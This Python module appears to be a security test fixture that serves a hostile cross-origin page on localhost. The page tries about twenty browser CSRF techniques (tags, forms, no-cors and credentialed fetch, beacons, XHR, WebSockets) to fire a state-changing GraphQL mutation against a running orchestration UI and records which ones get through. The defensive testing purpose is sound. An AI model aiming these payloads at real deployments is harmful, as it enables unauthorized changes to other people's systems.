"""A page of another origin that attacks a running UI in every way that a browser offers, and a server for it."""

import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

MUTATION = 'mutation { setConcurrencyLimit(concurrencyKey: "%s", limit: 3) }'
PAGE = """<!doctype html><title>attack</title><body><script>
const ui = new URLSearchParams(location.search).get("ui");
const mutation = name => `mutation { setConcurrencyLimit(concurrencyKey: "${name}", limit: 3) }`;
const address = name => `${ui}/graphql?query=${encodeURIComponent(mutation(name))}`;
window.results = {};
const within = (promise, ms) => Promise.race([promise, new Promise(done => setTimeout(() => done("no answer"), ms))]);

function element(tag, attribute, name) {
  return new Promise(done => {
    const one = document.createElement(tag);
    one.onload = () => done("loaded"); one.onerror = () => done("refused");
    if (tag === "link") one.rel = "stylesheet";
    one[attribute] = address(name);
    document.body.append(one);
  });
}
function form(method, enctype, name) {
  return new Promise(done => {
    const frame = document.createElement("iframe"); frame.name = "frame_" + name; frame.onload = () => done("sent");
    const one = document.createElement("form");
    one.method = method; one.action = address(name); one.target = frame.name; one.enctype = enctype;
    const field = document.createElement("input");
    field.name = method === "get" ? "query" : '{"query": ' + JSON.stringify(mutation(name + "_body")) + ', "x": "';
    field.value = method === "get" ? mutation(name) : '"}';
    one.append(field); document.body.append(frame, one); one.submit();
  });
}
const send = (name, options) => fetch(address(name), options).then(one => `${one.type} ${one.status}`, String);
const body = name => JSON.stringify({query: mutation(name)});
function socket(name, kind) {
  return new Promise(done => {
    const one = new WebSocket(ui.replace("http", "ws") + "/graphql", "graphql-ws");
    one.onopen = () => { one.send(JSON.stringify({type: "connection_init"}));
      one.send(JSON.stringify({type: kind, id: "1", payload: {query: mutation(name)}})); };
    one.onmessage = event => done("opened: " + event.data);
    one.onclose = () => done("refused");
  });
}
function request(name) {
  return new Promise(done => {
    const one = new XMLHttpRequest(); one.open("POST", address(name)); one.withCredentials = true;
    one.onloadend = () => done(String(one.status)); one.send(body(name + "_body"));
  });
}
const attacks = {
  img: name => element("img", "src", name),
  script: name => element("script", "src", name),
  link: name => element("link", "href", name),
  iframe: name => element("iframe", "src", name),
  object: name => element("object", "data", name),
  video: name => { element("video", "src", name); return "sent"; },
  form_get: name => form("get", "application/x-www-form-urlencoded", name),
  form_plain: name => form("post", "text/plain", name),
  form_urlencoded: name => form("post", "application/x-www-form-urlencoded", name),
  form_multipart: name => form("post", "multipart/form-data", name),
  get: name => send(name, {mode: "no-cors", credentials: "include"}),
  get_cors: name => send(name, {}),
  post_plain: name => send(name, {mode: "no-cors", method: "POST", body: body(name + "_body")}),
  post_mixed: name => send(name, {mode: "no-cors", method: "POST", body: body(name + "_body"),
    headers: {"Content-Type": "text/plain; application/json"}}),
  post_no_referrer: name => send(name, {mode: "no-cors", method: "POST", referrerPolicy: "no-referrer",
    body: body(name + "_body")}),
  post_json: name => send(name, {method: "POST", body: body(name + "_body"),
    headers: {"Content-Type": "application/json"}}),
  beacon: name => String(navigator.sendBeacon(address(name), body(name + "_body"))),
  keepalive: name => send(name, {mode: "no-cors", method: "POST", keepalive: true, body: body(name + "_body")}),
  xhr: name => request(name),
  socket: name => socket(name, "start"),
  socket_subscribe: name => socket(name, "subscribe"),
  report: name => fetch(`${ui}/report_asset_materialization/attacked_${name}?data_version=1`,
    {mode: "no-cors", method: "POST"}).then(one => `${one.type} ${one.status}`, String),
  read: name => fetch(`${ui}/server_info`).then(one => one.text(), () => "refused"),
};
(async () => {
  await Promise.all(Object.entries(attacks).map(async ([name, attack]) => {
    window.results[name] = await within(Promise.resolve(attack(name)), 5000);
  }));
  await new Promise(done => setTimeout(done, 300));
  window.ended = true;
})();
</script>"""


@contextmanager
def attacking_site() -> Iterator[int]:
    """Serve the page on a port of its own, which is yielded."""

    class Handler(BaseHTTPRequestHandler):
        def log_message(self, *_):
            pass

        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE.encode())

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield server.server_port
    finally:
        server.shutdown()
        server.server_close()
